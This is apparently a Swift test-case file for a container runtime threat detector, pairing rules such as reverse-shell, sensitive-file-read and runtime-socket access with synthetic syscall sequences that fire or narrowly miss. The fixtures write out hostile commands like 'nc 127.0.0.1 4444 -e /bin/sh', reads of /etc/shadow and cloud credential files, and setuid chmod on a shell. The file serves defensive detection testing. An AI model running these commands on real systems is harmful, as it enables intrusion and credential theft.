import Testing

/// One scenario for one rule: the recording lines and whether the rule must fire on them.
struct RuleCase: Sendable, CustomTestStringConvertible {
    var rule: String
    var label: String
    var fires: Bool
    var lines: [String]

    var testDescription: String { "\(rule) — \(fires ? "fires" : "near miss"): \(label)" }
}

/// For every default rule, event sequences that fire it and near misses that must not.
enum RuleCases {
    static let shellRule = "Shell started in container"
    static let sensitiveRule = "Sensitive file read by untrusted program"
    static let writeRule = "Write below binary directory or /etc"
    static let packageRule = "Package manager run in container"
    static let outboundRule = "Outbound connection to unexpected port from container"
    static let reverseShellRule = "Reverse shell started"
    static let redirectRule = "Standard stream redirected to network socket"
    static let ptraceRule = "Ptrace attach or memory poke"
    static let moduleRule = "Kernel module load attempt"
    static let bpfRule = "BPF program loaded from container"
    static let namespaceRule = "Mount or namespace change in container"
    static let socketRule = "Container runtime socket accessed from container"
    static let memfdRule = "Program executed from memfd"
    static let setuidRule = "Setuid or setgid bit set on file"

    static let all: [RuleCase] =
        shell + sensitive + write + packageManager + outbound + reverseShell + redirect + ptrace + module + bpf
        + namespace + runtimeSocket + memfd + setuid

    private typealias F = Fixtures

    private static func fires(_ rule: String, _ label: String, _ lines: [String]) -> RuleCase {
        RuleCase(rule: rule, label: label, fires: true, lines: lines)
    }

    private static func misses(_ rule: String, _ label: String, _ lines: [String]) -> RuleCase {
        RuleCase(rule: rule, label: label, fires: false, lines: lines)
    }

    // MARK: - Shell started in container

    static let shell: [RuleCase] = {
        let nginx = TestProcess(
            pid: 1300,
            ppid: 1000,
            vpid: 9,
            comm: "nginx",
            exePath: "/usr/sbin/nginx",
            container: F.web
        )
        let spawnedByNginx = TestProcess(
            pid: 1301,
            ppid: 1300,
            vpid: 10,
            comm: "bash",
            exePath: "/bin/bash",
            container: F.web
        )
        var noNamespacePID = F.entrypoint
        noNamespacePID.vpid = nil
        var execShellNoVPID = F.execShell
        execShellNoVPID.vpid = nil
        let subshell = TestProcess(
            pid: 1010,
            ppid: 1000,
            vpid: 5,
            comm: "sh",
            exePath: "/bin/sh",
            args: ["-c", "ls"],
            container: F.web
        )
        let tini = TestProcess(pid: 1000, ppid: 900, vpid: 1, comm: "tini", exePath: "/sbin/tini", container: F.web)
        let underTini = TestProcess(pid: 1001, ppid: 1000, vpid: 2, comm: "sh", exePath: "/bin/sh", container: F.web)
        return [
            fires(shellRule, "docker exec web sh (parent runc, vpid 7)", F.dockerExec),
            fires(
                shellRule,
                "docker exec without a namespace pid (parent runc)",
                F.runtime + Line.spawn(execShellNoVPID, by: F.runc)
            ),
            fires(
                shellRule,
                "nginx in the container spawns bash",
                F.runtime + [Line.exec(nginx)] + Line.spawn(spawnedByNginx, by: nginx)
            ),
            misses(shellRule, "the container's entrypoint shell (vpid 1)", F.runtime + [Line.exec(F.entrypoint)]),
            misses(
                shellRule,
                "entrypoint shell without a namespace pid, started by the shim",
                F.runtime + [Line.exec(noNamespacePID)]
            ),
            misses(
                shellRule,
                "a shell started on the host",
                [Line.exec(F.shim)] + Line.spawn(F.hostShell.onHost, by: F.shim)
            ),
            misses(
                shellRule,
                "a shell started by a shell in the container (script)",
                F.runtime + [Line.exec(F.entrypoint)] + Line.spawn(subshell, by: F.entrypoint)
            ),
            misses(
                shellRule,
                "entrypoint shell under docker-init/tini",
                F.runtime + [Line.exec(tini)] + Line.spawn(underTini, by: tini)
            ),
            misses(shellRule, "a failed execve of sh", F.runtime + [Line.exec(F.execShell, res: -2)]),
        ]
    }()

    // MARK: - Sensitive file read

    static let sensitive: [RuleCase] = {
        let cat = F.inContainer("cat", args: ["/etc/shadow"])
        let hostCat = F.onHost("cat", args: ["/etc/shadow"])
        let python = F.inContainer("python3", exePath: "/usr/bin/python3")
        let sshd = TestProcess(pid: 812, ppid: 1, comm: "sshd", exePath: "/usr/sbin/sshd", args: ["-D"])
        return [
            fires(sensitiveRule, "cat /etc/shadow in a container", F.run(cat) + [Line.open(cat, "/etc/shadow")]),
            fires(sensitiveRule, "cat /etc/shadow on the host", F.run(hostCat) + [Line.open(hostCat, "/etc/shadow")]),
            fires(
                sensitiveRule,
                "/etc/gshadow read-write",
                F.run(cat) + [Line.open(cat, "/etc/gshadow", flags: ["O_RDWR"])]
            ),
            fires(sensitiveRule, "SSH private key", F.run(cat) + [Line.open(cat, "/home/dev/.ssh/id_ed25519")]),
            fires(sensitiveRule, "authorized_keys", F.run(cat) + [Line.open(cat, "/root/.ssh/authorized_keys")]),
            fires(
                sensitiveRule,
                "SSH host key",
                F.run(hostCat) + [Line.open(hostCat, "/etc/ssh/ssh_host_ed25519_key")]
            ),
            fires(sensitiveRule, "AWS credentials", F.run(python) + [Line.open(python, "/root/.aws/credentials")]),
            fires(
                sensitiveRule,
                "gcloud credentials",
                F.run(python) + [Line.open(python, "/home/dev/.config/gcloud/credentials.db")]
            ),
            fires(
                sensitiveRule,
                "Azure token cache",
                F.run(python) + [Line.open(python, "/root/.azure/msal_token_cache.json")]
            ),
            fires(sensitiveRule, "kube config", F.run(python) + [Line.open(python, "/root/.kube/config")]),
            misses(sensitiveRule, "sshd reads /etc/shadow", [Line.exec(sshd), Line.open(sshd, "/etc/shadow")]),
            misses(sensitiveRule, "cat /etc/hostname", F.run(cat) + [Line.open(cat, "/etc/hostname")]),
            misses(sensitiveRule, "a public key", F.run(cat) + [Line.open(cat, "/root/.ssh/id_rsa.pub")]),
            misses(
                sensitiveRule,
                "a public host key",
                F.run(hostCat) + [Line.open(hostCat, "/etc/ssh/ssh_host_ed25519_key.pub")]
            ),
            misses(
                sensitiveRule,
                "missing credentials file (ENOENT)",
                F.run(python) + [Line.open(python, "/root/.aws/credentials", res: -2)]
            ),
            misses(
                sensitiveRule,
                "the aws CLI reads its credentials",
                F.run(F.inContainer("aws")) + [Line.open(F.inContainer("aws"), "/root/.aws/credentials")]
            ),
        ]
    }()

    // MARK: - Write below binary directory or /etc

    static let write: [RuleCase] = {
        let sh = F.execShell
        let cp = F.inContainer("cp", args: ["/tmp/x", "/bin/evil"])
        let hostSh = F.hostShell
        let creating = ["O_WRONLY", "O_CREAT", "O_TRUNC"]
        let aptGet = F.inContainer("apt-get", args: ["install", "-y", "curl"])
        let dpkg = TestProcess(pid: 1201, ppid: 1200, vpid: 9, comm: "dpkg", exePath: "/usr/bin/dpkg", container: F.web)
        let postinst = TestProcess(pid: 1202, ppid: 1201, vpid: 10, comm: "sh", exePath: "/bin/sh", container: F.web)
        let ldconfig = TestProcess(
            pid: 1203,
            ppid: 1202,
            vpid: 11,
            comm: "ldconfig",
            exePath: "/sbin/ldconfig",
            container: F.web
        )
        let dhclient = F.onHost("dhclient", exePath: "/sbin/dhclient")
        var containerDHClient = F.inContainer("dhclient", exePath: "/sbin/dhclient")
        containerDHClient.pid = 1250
        let python = F.onHost("python3")
        let pycache = "/usr/lib/python3/dist-packages/yaml/__pycache__/__init__.cpython-311.pyc"
        let mkdir = F.inContainer("mkdir", args: ["-p", "/etc"])
        let mv = F.inContainer("mv")
        let ln = F.inContainer("ln")
        let rm = F.onHost("rm")
        return [
            fires(
                writeRule,
                "echo > /bin/evil in a container",
                F.dockerExec + [Line.open(sh, "/bin/evil", flags: creating)]
            ),
            fires(writeRule, "cp into /bin", F.run(cp) + [Line.open(cp, "/bin/evil", flags: creating, res: 4)]),
            fires(
                writeRule,
                "failed attempt on a read-only /usr/bin (EROFS)",
                F.dockerExec + [Line.open(sh, "/usr/bin/ls", flags: ["O_WRONLY", "O_TRUNC"], res: -30)]
            ),
            fires(
                writeRule,
                "creat below /usr/local/bin",
                F.dockerExec + [Line.open(sh, "/usr/local/bin/kubectl", flags: [], type: "creat")]
            ),
            fires(
                writeRule,
                "append to /etc/crontab on the host",
                [Line.exec(hostSh), Line.open(hostSh, "/etc/crontab", flags: ["O_WRONLY", "O_APPEND"])]
            ),
            fires(
                writeRule,
                "rename /tmp/x to /usr/bin/ls",
                F.run(mv) + [
                    Line.event(
                        "renameat2",
                        mv,
                        res: 0,
                        args:
                            #"{"olddirfd":-100,"oldpath":{"path":"/tmp/x"},"newdirfd":-100,"newpath":{"path":"/usr/bin/ls"},"flags":0}"#
                    )
                ]
            ),
            fires(
                writeRule,
                "unlink /etc/passwd on the host",
                F.run(rm) + [
                    Line.event("unlinkat", rm, res: 0, args: #"{"dirfd":-100,"name":{"path":"/etc/passwd"},"flags":0}"#)
                ]
            ),
            fires(
                writeRule,
                "symlink created in /usr/local/bin",
                F.run(ln) + [
                    Line.event(
                        "symlinkat",
                        ln,
                        res: 0,
                        args: #"{"target":{"path":"/tmp/x"},"linkdirfd":-100,"linkpath":{"path":"/usr/local/bin/x"}}"#
                    )
                ]
            ),
            fires(
                writeRule,
                "dhclient writing /etc in a container",
                F.dockerExec + Line.spawn(containerDHClient, by: sh) + [
                    Line.open(containerDHClient, "/etc/resolv.conf", flags: creating)
                ]
            ),
            misses(
                writeRule,
                "mkdir -p of an existing /etc (EEXIST)",
                F.run(mkdir) + [
                    Line.event("mkdirat", mkdir, res: -17, args: #"{"dirfd":-100,"path":{"path":"/etc"},"mode":493}"#)
                ]
            ),
            fires(
                writeRule,
                "mkdir below /etc",
                F.run(mkdir) + [
                    Line.event(
                        "mkdirat",
                        mkdir,
                        res: 0,
                        args: #"{"dirfd":-100,"path":{"path":"/etc/cron.d/x"},"mode":493}"#
                    )
                ]
            ),
            misses(
                writeRule,
                "rm -f of a missing file in /usr/local/bin (ENOENT)",
                F.run(mkdir) + [
                    Line.event(
                        "unlinkat",
                        mkdir,
                        res: -2,
                        args: #"{"dirfd":-100,"name":{"path":"/usr/local/bin/x"},"flags":0}"#
                    )
                ]
            ),
            misses(
                writeRule,
                "python3 caching byte code below /usr/lib",
                F.run(python) + [Line.open(python, pycache, flags: ["O_WRONLY", "O_CREAT", "O_EXCL"])]
            ),
            fires(
                writeRule,
                "another program writing a .pyc below /usr/lib",
                F.run(F.onHost("cp")) + [Line.open(F.onHost("cp"), pycache, flags: ["O_WRONLY", "O_CREAT"])]
            ),
            misses(writeRule, "write to /tmp", F.dockerExec + [Line.open(sh, "/tmp/evil", flags: creating)]),
            misses(writeRule, "read /bin/ls", F.dockerExec + [Line.open(sh, "/bin/ls")]),
            misses(
                writeRule,
                "a directory named like /etc (/etcd)",
                F.dockerExec + [Line.open(sh, "/etcd/member", flags: creating)]
            ),
            misses(
                writeRule,
                "dpkg writes /usr/bin under apt-get",
                F.run(aptGet) + Line.spawn(dpkg, by: aptGet) + [
                    Line.open(dpkg, "/usr/bin/curl.dpkg-new", flags: creating)
                ]
            ),
            misses(
                writeRule,
                "ldconfig run by a dpkg maintainer script",
                F.run(aptGet) + Line.spawn(dpkg, by: aptGet) + Line.spawn(postinst, by: dpkg)
                    + Line.spawn(ldconfig, by: postinst) + [Line.open(ldconfig, "/etc/ld.so.cache~", flags: creating)]
            ),
            misses(
                writeRule,
                "dhclient writing /etc/resolv.conf on the host",
                F.run(dhclient) + [Line.open(dhclient, "/etc/resolv.conf", flags: creating)]
            ),
            misses(
                writeRule,
                "symlink pointing into /usr/bin, created in /tmp",
                F.run(ln) + [
                    Line.event(
                        "symlinkat",
                        ln,
                        res: 0,
                        args: #"{"target":{"path":"/usr/bin/python3"},"linkdirfd":-100,"linkpath":{"path":"/tmp/py"}}"#
                    )
                ]
            ),
        ]
    }()

    // MARK: - Package manager run in container

    static let packageManager: [RuleCase] = {
        let aptGet = F.inContainer("apt-get", args: ["install", "-y", "nmap"])
        let dpkg = TestProcess(pid: 1201, ppid: 1200, vpid: 9, comm: "dpkg", exePath: "/usr/bin/dpkg", container: F.web)
        return [
            fires(packageRule, "apt-get install in a container", F.run(aptGet)),
            fires(
                packageRule,
                "apk add in a container",
                F.run(F.inContainer("apk", args: ["add", "socat"], exePath: "/sbin/apk"))
            ),
            fires(
                packageRule,
                "pip3 install in a container",
                F.run(F.inContainer("pip3", args: ["install", "requests"]))
            ),
            misses(packageRule, "apt-get on the host", F.run(F.onHost("apt-get", args: ["update"]))),
            misses(
                packageRule,
                "dpkg run by a known apt-get (only apt-get is reported)",
                F.dockerExec + Line.spawn(dpkg, by: aptGet)
            ),
            misses(packageRule, "a program whose name only starts like one (aptly)", F.run(F.inContainer("aptly"))),
        ]
    }()

    // MARK: - Outbound connection

    static let outbound: [RuleCase] = {
        let nc = F.inContainer("nc", args: ["127.0.0.1", "4444"], exePath: "/bin/nc")
        let hostNC = F.onHost("nc", args: ["127.0.0.1", "4444"], exePath: "/bin/nc")
        let curl = F.inContainer("curl")
        return [
            fires(
                outboundRule,
                "nc to 127.0.0.1:4444 refused",
                F.run(nc) + [Line.socket(nc, fd: 3), Line.connect(nc, fd: 3, to: "127.0.0.1", port: 4444, res: -111)]
            ),
            fires(
                outboundRule,
                "connected to 203.0.113.7:6667",
                F.run(nc) + [Line.socket(nc, fd: 3), Line.connect(nc, fd: 3, to: "203.0.113.7", port: 6667)]
            ),
            fires(
                outboundRule,
                "IPv6 in progress to port 8443",
                F.run(curl) + [
                    Line.socket(curl, fd: 5, domain: "AF_INET6"),
                    Line.connect(curl, fd: 5, to: "2001:db8::1", port: 8443, res: -115),
                ]
            ),
            fires(
                outboundRule,
                "UDP to port 4444",
                F.run(nc) + [Line.connect(nc, fd: 3, to: "198.51.100.1", port: 4444, proto: "udp")]
            ),
            misses(
                outboundRule,
                "HTTPS to port 443",
                F.run(curl) + [Line.socket(curl, fd: 3), Line.connect(curl, fd: 3, to: "203.0.113.7", port: 443)]
            ),
            misses(
                outboundRule,
                "DNS to the embedded resolver 127.0.0.11:53",
                F.run(curl) + [Line.connect(curl, fd: 4, to: "127.0.0.11", port: 53, proto: "udp")]
            ),
            misses(
                outboundRule,
                "the same connection on the host",
                F.run(hostNC) + [
                    Line.socket(hostNC, fd: 3), Line.connect(hostNC, fd: 3, to: "127.0.0.1", port: 4444, res: -111),
                ]
            ),
            misses(outboundRule, "a Unix socket", F.run(curl) + [Line.connectUnix(curl, fd: 3, path: "/tmp/app.sock")]),
            misses(
                outboundRule,
                "a connect that failed before trying (EBADF)",
                F.run(nc) + [Line.connect(nc, fd: 3, to: "203.0.113.7", port: 6667, res: -9)]
            ),
        ]
    }()

    // MARK: - Reverse shell

    /// `nc 127.0.0.1 4444 -e /bin/sh`: socket, connect, socket moved onto 0 and 1, `sh` executed in place of nc.
    static func ncReverseShell(_ nc: TestProcess, describeDup: Bool = false) -> [String] {
        var sh = nc
        sh.comm = "sh"
        sh.exePath = "/bin/sh"
        sh.args = []
        let socketFD = { (n: Int64) in describeDup ? Line.socketFD(number: n, to: "127.0.0.1", port: 4444) : nil }
        return F.run(nc) + [
            Line.socket(nc, fd: 3),
            Line.connect(nc, fd: 3, to: "127.0.0.1", port: 4444),
            Line.dup2(nc, old: 3, new: 0, describedFD: socketFD(0)),
            Line.close(nc, fd: 3),
            Line.dup2(nc, old: 0, new: 1, describedFD: socketFD(1)),
            Line.exec(sh),
        ]
    }

    static let reverseShell: [RuleCase] = {
        let nc = F.inContainer("nc", args: ["127.0.0.1", "4444", "-e", "/bin/sh"], exePath: "/bin/nc")
        let hostNC = F.onHost("nc", args: ["127.0.0.1", "4444", "-e", "/bin/sh"], exePath: "/bin/nc")
        let script = F.inContainer("sh", args: ["/app/run.sh"], exePath: "/bin/sh")
        let python = F.inContainer("python3")
        var pythonShell = python
        pythonShell.comm = "sh"
        pythonShell.exePath = "/bin/sh"
        return [
            fires(reverseShellRule, "nc -e /bin/sh in a container", ncReverseShell(nc)),
            fires(reverseShellRule, "nc -e /bin/sh on the host", ncReverseShell(hostNC)),
            fires(
                reverseShellRule,
                "nc -e with the sensor describing the dup'd socket",
                ncReverseShell(nc, describeDup: true)
            ),
            misses(reverseShellRule, "a shell script started normally", F.run(script)),
            misses(
                reverseShellRule,
                "a shell exec'd with a socket on fd 3 only",
                F.run(python) + [
                    Line.socket(python, fd: 3), Line.connect(python, fd: 3, to: "127.0.0.1", port: 4444),
                    Line.exec(pythonShell),
                ]
            ),
            misses(
                reverseShellRule,
                "a shell exec'd with a file as stdout",
                F.run(python) + [
                    Line.open(python, "/tmp/out", flags: ["O_WRONLY", "O_CREAT"], res: 3),
                    Line.dup2(python, old: 3, new: 1), Line.exec(pythonShell),
                ]
            ),
        ]
    }()

    static let redirect: [RuleCase] = {
        let python = F.inContainer("python3")
        let hostPython = F.onHost("python3")
        let hostBash = F.onHost("bash", exePath: "/bin/bash")
        let connected = { (p: TestProcess) in
            [Line.socket(p, fd: 3), Line.connect(p, fd: 3, to: "10.0.0.9", port: 9001)]
        }
        return [
            fires(
                redirectRule,
                "python dup2(socket, 0) in a container (from the process table)",
                F.run(python) + connected(python) + [Line.dup2(python, old: 3, new: 0)]
            ),
            fires(
                redirectRule,
                "dup2 described by the sensor, socket not in the table",
                F.run(python) + [
                    Line.dup2(python, old: 7, new: 1, describedFD: Line.socketFD(number: 1, to: "10.0.0.9", port: 9001))
                ]
            ),
            fires(
                redirectRule,
                "bash -i >& /dev/tcp/… on the host",
                F.run(hostBash) + connected(hostBash) + [Line.dup2(hostBash, old: 3, new: 1)]
            ),
            misses(
                redirectRule,
                "python dup2(socket, 0) on the host (not a shell)",
                F.run(hostPython) + connected(hostPython) + [Line.dup2(hostPython, old: 3, new: 0)]
            ),
            misses(
                redirectRule,
                "a file onto stdout",
                F.run(python) + [
                    Line.open(python, "/tmp/log", flags: ["O_WRONLY", "O_CREAT"], res: 3),
                    Line.dup2(python, old: 3, new: 1),
                ]
            ),
            misses(
                redirectRule,
                "a socket onto fd 5",
                F.run(python) + connected(python) + [Line.dup2(python, old: 3, new: 5)]
            ),
        ]
    }()

    // MARK: - Ptrace

    static let ptrace: [RuleCase] = {
        let gdb = F.inContainer("gdb")
        let hostStrace = F.onHost("strace", args: ["-p", "812"])
        return [
            fires(
                ptraceRule,
                "PTRACE_ATTACH in a container",
                F.run(gdb) + [Line.ptrace(gdb, request: .names(["PTRACE_ATTACH"], raw: 16), target: 1000)]
            ),
            fires(
                ptraceRule,
                "PTRACE_SEIZE on the host (text form)",
                F.run(hostStrace) + [Line.ptrace(hostStrace, request: .text("PTRACE_SEIZE"), target: 812)]
            ),
            fires(
                ptraceRule,
                "PTRACE_POKEDATA by number",
                F.run(gdb) + [Line.ptrace(gdb, request: .number(5), target: 1000)]
            ),
            fires(
                ptraceRule,
                "PTRACE_POKEUSER",
                F.run(gdb) + [Line.ptrace(gdb, request: .names(["PTRACE_POKEUSR"], raw: 6), target: 1000)]
            ),
            fires(
                ptraceRule,
                "refused attach (EPERM)",
                F.run(gdb) + [Line.ptrace(gdb, request: .names(["PTRACE_ATTACH"], raw: 16), target: 1, res: -1)]
            ),
            misses(
                ptraceRule,
                "PTRACE_TRACEME",
                F.run(gdb) + [Line.ptrace(gdb, request: .names(["PTRACE_TRACEME"], raw: 0), target: 0)]
            ),
            misses(
                ptraceRule,
                "PTRACE_PEEKDATA",
                F.run(gdb) + [Line.ptrace(gdb, request: .names(["PTRACE_PEEKDATA"], raw: 2), target: 1000)]
            ),
            misses(
                ptraceRule,
                "PTRACE_CONT by number",
                F.run(gdb) + [Line.ptrace(gdb, request: .number(7), target: 1000)]
            ),
        ]
    }()

    // MARK: - Kernel module

    static let module: [RuleCase] = {
        let insmod = F.inContainer("insmod", args: ["/tmp/rootkit.ko"], exePath: "/sbin/insmod")
        let hostModprobe = F.onHost("modprobe", args: ["dummy"], exePath: "/sbin/modprobe")
        return [
            fires(
                moduleRule,
                "finit_module refused in a container",
                F.run(insmod) + [Line.event("finit_module", insmod, res: -1, args: #"{"fd":3,"uargs":"","flags":0}"#)]
            ),
            fires(
                moduleRule,
                "init_module on the host",
                F.run(hostModprobe) + [
                    Line.event("init_module", hostModprobe, res: 0, args: #"{"len":4096,"uargs":""}"#)
                ]
            ),
            misses(
                moduleRule,
                "delete_module on the host",
                F.run(hostModprobe) + [Line.event("delete_module", hostModprobe, res: 0, args: #"{"name":"dummy"}"#)]
            ),
            misses(moduleRule, "reading a .ko file", F.run(insmod) + [Line.open(insmod, "/tmp/rootkit.ko")]),
        ]
    }()

    // MARK: - BPF

    static let bpf: [RuleCase] = {
        let loader = F.inContainer("bpftool")
        let hostLoader = F.onHost("bulkhead")
        return [
            fires(
                bpfRule,
                "BPF_PROG_LOAD refused in a container",
                F.run(loader) + [Line.bpf(loader, cmd: .text("BPF_PROG_LOAD"), res: -1)]
            ),
            fires(bpfRule, "BPF_PROG_LOAD by number", F.run(loader) + [Line.bpf(loader, cmd: .number(5))]),
            fires(
                bpfRule,
                "BPF_PROG_LOAD as a flag set",
                F.run(loader) + [Line.bpf(loader, cmd: .names(["BPF_PROG_LOAD"], raw: 5))]
            ),
            misses(
                bpfRule,
                "BPF_MAP_CREATE in a container",
                F.run(loader) + [Line.bpf(loader, cmd: .text("BPF_MAP_CREATE"))]
            ),
            misses(
                bpfRule,
                "BPF_PROG_LOAD on the host (the sensor itself)",
                F.run(hostLoader) + [Line.bpf(hostLoader, cmd: .text("BPF_PROG_LOAD"))]
            ),
        ]
    }()

    // MARK: - Mount and namespaces

    static let namespace: [RuleCase] = {
        let mount = F.inContainer("mount", args: ["/dev/sda1", "/mnt"], exePath: "/bin/mount")
        let unshare = F.inContainer("unshare", args: ["-m"])
        let nsenter = F.inContainer("nsenter", args: ["-t", "1", "-m"])
        let umount = F.inContainer("umount", args: ["/sys/fs/cgroup"], exePath: "/bin/umount")
        var runcInit = F.inContainer("runc:[2:INIT]", exePath: "/memfd:runc_cloned:/proc/self/exe (deleted)")
        runcInit.args = ["init"]
        let hostMount = F.onHost("mount", args: ["/dev/sdb1", "/data"], exePath: "/bin/mount")
        // runc 1.2+: `init` re-executed through /proc/self/exe (named `exe`), a child of runc, in the container.
        let selfExeInit = TestProcess(
            pid: 1150,
            ppid: 950,
            vpid: 1,
            comm: "exe",
            exePath: "/proc/self/exe",
            args: ["init"],
            container: F.web
        )
        // The same name and argument from a process of the container (not runc's child) is reported.
        let fakeInit = F.inContainer("exe", args: ["init"], exePath: "/tmp/exe")
        let umountArgs = #"{"name":{"path":"/var/run/docker/runtime-runc/moby/x/runc.abc"},"flags":0}"#
        let mountArgs = #"{"dev":"/dev/sda1","dir":{"path":"/mnt"},"type":"ext4","flags":0}"#
        return [
            fires(
                namespaceRule,
                "mount refused (EPERM) in a container",
                F.run(mount) + [Line.event("mount", mount, res: -1, args: mountArgs)]
            ),
            fires(
                namespaceRule,
                "unshare(CLONE_NEWNS)",
                F.run(unshare) + [
                    Line.event(
                        "unshare",
                        unshare,
                        res: 0,
                        args: #"{"flags":\#(Line.flags(["CLONE_NEWNS"], raw: 131072))}"#
                    )
                ]
            ),
            fires(
                namespaceRule,
                "setns into pid 1's mount namespace",
                F.run(nsenter) + [Line.event("setns", nsenter, res: 0, args: #"{"fd":3,"nstype":0}"#)]
            ),
            fires(
                namespaceRule,
                "umount2",
                F.run(umount) + [
                    Line.event("umount2", umount, res: -1, args: #"{"name":{"path":"/sys/fs/cgroup"},"flags":0}"#)
                ]
            ),
            misses(
                namespaceRule,
                "runc's init stage mounting /proc",
                F.dockerExec + [Line.event("mount", runcInit, res: 0, args: mountArgs)]
            ),
            misses(
                namespaceRule,
                "runc 1.2's /proc/self/exe init unmounting its state directory",
                F.runtime + Line.spawn(selfExeInit, by: F.runc)
                    + [Line.event("umount2", selfExeInit, res: 0, args: umountArgs)]
            ),
            fires(
                namespaceRule,
                "a container process named exe with argument init",
                F.run(fakeInit) + [Line.event("umount2", fakeInit, res: 0, args: umountArgs)]
            ),
            misses(
                namespaceRule,
                "mount on the host",
                F.run(hostMount) + [Line.event("mount", hostMount, res: 0, args: mountArgs)]
            ),
        ]
    }()

    // MARK: - Container runtime socket

    static let runtimeSocket: [RuleCase] = {
        let curl = F.inContainer("curl", args: ["--unix-socket", "/var/run/docker.sock", "http://x/containers/json"])
        let docker = F.onHost("docker", args: ["ps"])
        return [
            fires(
                socketRule,
                "curl --unix-socket /var/run/docker.sock",
                F.run(curl) + [
                    Line.socket(curl, fd: 3, domain: "AF_UNIX"),
                    Line.connectUnix(curl, fd: 3, path: "/var/run/docker.sock"),
                ]
            ),
            fires(
                socketRule,
                "connect to /run/docker.sock refused",
                F.run(curl) + [Line.connectUnix(curl, fd: 3, path: "/run/docker.sock", res: -111)]
            ),
            fires(
                socketRule,
                "open of /var/run/docker.sock (ENXIO)",
                F.run(curl) + [Line.open(curl, "/var/run/docker.sock", flags: ["O_RDWR"], res: -6)]
            ),
            misses(
                socketRule,
                "the docker CLI on the host",
                F.run(docker) + [Line.connectUnix(docker, fd: 3, path: "/var/run/docker.sock")]
            ),
            misses(
                socketRule,
                "another Unix socket in the container",
                F.run(curl) + [Line.connectUnix(curl, fd: 3, path: "/tmp/app.sock")]
            ),
        ]
    }()

    // MARK: - memfd execution

    static let memfd: [RuleCase] = {
        let payload = F.inContainer("3", exePath: "/memfd:payload (deleted)")
        var memfdPayload = payload
        memfdPayload.exeFromMemfd = true
        var hostPayload = F.onHost("kworker", exePath: "/memfd: (deleted)")
        hostPayload.exeFromMemfd = true
        var runcClone = TestProcess(
            pid: 1000,
            ppid: 950,
            comm: "memfd:runc_clon",
            exePath: "/dev/fd/5",
            args: ["init"],
            container: F.web,
            exeFromMemfd: true
        )
        runcClone.exe = "runc"
        var runcCloneByNumber = runcClone
        runcCloneByNumber.comm = "5"
        runcCloneByNumber.exePath = "/dev/fd/5"
        var directlyByRunc = memfdPayload
        directlyByRunc.pid = 1150
        directlyByRunc.ppid = 950
        return [
            fires(memfdRule, "fexecve of a memfd in a container", F.run(memfdPayload)),
            fires(memfdRule, "memfd execution on the host", F.run(hostPayload)),
            misses(memfdRule, "the same program from a file", F.run(payload)),
            fires(
                memfdRule,
                "a memfd program started directly by docker exec (parent runc)",
                F.runtime + Line.spawn(directlyByRunc, by: F.runc)
            ),
            misses(
                memfdRule,
                "runc re-executing itself from its memfd copy (named after the memfd)",
                F.runtime + Line.spawn(runcClone, by: F.runc)
            ),
            misses(
                memfdRule,
                "runc's memfd copy named after the descriptor (kernels before 6.14)",
                F.runtime + Line.spawn(runcCloneByNumber, by: F.runc)
            ),
        ]
    }()

    // MARK: - Setuid bit

    static let setuid: [RuleCase] = {
        let chmod = F.inContainer("chmod", args: ["4755", "/tmp/sh"])
        let hostChmod = F.onHost("chmod", args: ["g+s", "/usr/local/bin/tool"])
        let setuid4755 = Line.Flag.names(["S_ISUID", "S_IRWXU", "S_IRGRP", "S_IXGRP", "S_IROTH", "S_IXOTH"], raw: 2541)
        let plain0755 = Line.Flag.names(["S_IRWXU", "S_IRGRP", "S_IXGRP", "S_IROTH", "S_IXOTH"], raw: 493)
        let dpkg = F.inContainer("dpkg", args: ["-i", "passwd.deb"])
        return [
            fires(
                setuidRule,
                "chmod 4755 /tmp/sh in a container",
                F.run(chmod) + [Line.fchmodat(chmod, "/tmp/sh", mode: setuid4755)]
            ),
            fires(
                setuidRule,
                "chmod g+s on the host (raw mode 02755)",
                F.run(hostChmod) + [Line.chmod(hostChmod, "/usr/local/bin/tool", mode: .number(1517))]
            ),
            fires(
                setuidRule,
                "fchmod with S_ISUID",
                F.run(chmod) + [Line.event("fchmod", chmod, res: 0, args: #"{"fd":3,"mode":\#(setuid4755.json)}"#)]
            ),
            misses(setuidRule, "chmod 0755", F.run(chmod) + [Line.fchmodat(chmod, "/tmp/sh", mode: plain0755)]),
            misses(
                setuidRule,
                "chmod 1777 (sticky bit only)",
                F.run(chmod) + [Line.chmod(chmod, "/tmp/shared", mode: .number(1023))]
            ),
            misses(
                setuidRule,
                "chmod 4755 refused (EPERM)",
                F.run(chmod) + [Line.fchmodat(chmod, "/usr/bin/x", mode: setuid4755, res: -1)]
            ),
            misses(
                setuidRule,
                "dpkg installing a setuid program",
                F.run(dpkg) + [Line.fchmodat(dpkg, "/usr/bin/passwd", mode: setuid4755)]
            ),
        ]
    }()
}
